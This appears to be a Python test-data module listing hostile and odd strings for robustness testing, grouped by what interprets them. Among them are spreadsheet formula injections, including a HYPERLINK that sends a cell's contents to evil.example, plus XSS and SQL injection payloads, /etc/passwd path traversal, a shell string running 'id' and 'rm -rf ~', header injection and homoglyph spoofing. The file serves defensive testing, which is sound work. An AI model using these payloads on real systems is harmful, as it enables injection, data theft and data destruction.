"""Hostile and odd strings, as people and attackers write them; see what each is for."""

LINES = {
    "line feed": "one\ntwo",
    "carriage return": "one\r\ntwo",
    "vertical tab": "one\x0btwo",
    "form feed": "one\x0ctwo",
    "file separator": "one\x1ctwo",
    "next line": "one\x85two",
    "line separator": "one\u2028two",
    "paragraph separator": "one\u2029two",
    "header injection": "Ann\r\nBcc: victim@evil.example",
    "forged log line": "Ann\n2020-01-01 ERROR payroll deleted",
}
"""Texts that some reader takes for two lines."""

INVISIBLE = {
    "zero width": "an\u200bn\u200d@shop.example",
    "byte order mark": "\ufeffann",
    "right-to-left override": "ann\u202etxt.exe",
    "isolate": "\u2066ann\u2069",
    "soft hyphen": "an\u00adn",
    "tag characters": "ann\U000e0041\U000e007f",
    "combining marks": "Z" + "\u0301" * 60,
    "decomposed": "Zoe\u0308 O\u0308zil",
}
"""Texts that look like others."""

TERMINAL = {
    "colour": "\x1b[31mred\x1b[0m",
    "title": "\x1b]0;owned\x07",
    "clear": "\x1b[2J\x1b[H",
    "C1 control sequence": "\x9b31mred",
    "backspace": "abc\x08\x08\x08xyz",
    "bell": "\x07",
    "delete": "a\x7fb",
    "tab": "a\tb",
    "markup": "[red]red[/red] [link=https://evil.example]x[/link] [/]",
}
"""Texts that a terminal obeys."""

FORMULAS = {
    "command": "=cmd|' /C calc'!A0",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "link": '=HYPERLINK("https://evil.example?"&A1,"x")',
    "tab before": "\t=1+1",
}
"""Texts that a spreadsheet computes."""

MARKUP = {
    "script": "<script>alert(1)</script>",
    "attribute": '"><img src=x onerror=alert(1)>',
    "end of script": "</script><script>alert(1)</script>",
    "end of comment": "--><svg onload=alert(1)>",
    "template": "{{7*7}} {% raw %} ${7*7} #{7*7}",
    "entity": "&lt;b&gt; &amp;amp; &#x3c;",
    "scheme": "javascript:alert(1)",
}
"""Texts that a page or a template obeys."""

CODE = {
    "format": "%s %n %x {0} {} {name.__class__}",
    "sql": "O'Brien; drop table records; --",
    "quotes": "a\"b'c`d\\",
    "backslash": "\\",
    "path": "../../../../etc/passwd",
    "shell": "$(touch /tmp/x) `id` ; rm -rf ~ &",
    "glob": "*?[a",
    "json": '{"a": [1',
    "null": "NULL",
    "not a number": "NaN",
}
"""Texts that some language reads as its own."""

SCRIPTS = {
    "Arabic digits": "\u0660\u0663\u0660 \u0669\u0660\u0661\u0668\u0662\u0660",
    "right to left": "\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627",
    "emoji": "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f1e9\U0001f1ea",
    "sharp s": "Wei\u00df STRASSE \u0130stanbul \u0131",
    "homoglyph": "p\u0430ypal@\u0440aypal.example",
    "wide": "\uff21\uff4e\uff4e\uff20\uff58",
    "astral": "\U00020bb7\u91ce\u5bb6",
    "noncharacter": "a\uffffb\ufdd0",
    "replacement": "caf\ufffd",
}
"""Texts in other scripts."""

LONG = {
    "long": "x" * 100_000,
    "long word of wide marks": "\U0001f4a9" * 20_000,
    "empty": "",
    "blank": " ",
}

NUL = "a\0b"
LONE_SURROGATE = "a\ud800b"

CORPUS = LINES | INVISIBLE | TERMINAL | FORMULAS | MARKUP | CODE | SCRIPTS | LONG | {"NUL": NUL}
"""Every text by what it is for; a lone surrogate is apart: no UTF-8 file can hold it."""

HOSTILE_TEXTS = [text for text in CORPUS.values() if len(text) < 1_000] + ["x" * 9_000]

NUMBERS = [
    *("1e999", "-0", "1.5", "1,5", "1.000,00", "1,000.00", "١٢", "²", "0x10", "1_000", "+1", "--1"),
    *("9223372036854775807", "9223372036854775808", "123456789012345678901234567890", "nan", "inf"),
    *("1.", ".5", "1e-400", "00012", "1 000", "1\u00a0000", "$5", "5 €", "(5)", "5-", "½", "true"),
]
TIMES = [
    *("0000-00-00", "0001-01-01", "1899-12-30", "1900-01-01", "9999-12-31", "10000-01-01"),
    *("2019-02-30", "2019-10-27 02:30:00", "2019-03-31 02:30:00", "24:00", "2019-12-31T23:59:60Z"),
    *("infinity", "-infinity", "epoch", "now", "today", "294247-01-10", "2019-01-01 BC", "43500"),
    *("01/02/2019", "1.2.19", "2019-W01", "2019-001", "2019-01-01T00:00:00+99:00", "1546300800"),
]
